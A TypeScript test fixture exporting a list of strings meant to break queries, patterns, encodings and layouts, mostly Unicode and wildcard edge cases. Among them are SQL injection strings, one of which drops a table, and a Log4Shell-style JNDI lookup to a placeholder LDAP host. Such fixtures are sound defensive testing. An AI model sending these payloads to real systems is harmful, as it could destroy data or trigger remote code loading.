/** Text that breaks queries, patterns, encodings and layouts. */
export const HOSTILE_TEXTS: readonly string[] = [
  `'; drop table people; --`,
  `" or 1=1 --`,
  '%',
  '_',
  '\\',
  '100%_\\ sure',
  '🙂👩‍👩‍👧',
  'שלום עולם',
  '\u202eabc',
  '\u0024{jndi:ldap://x}',
  'a'.repeat(256),
  'ﬀ Ⅷ ｆｕｌｌ',
];
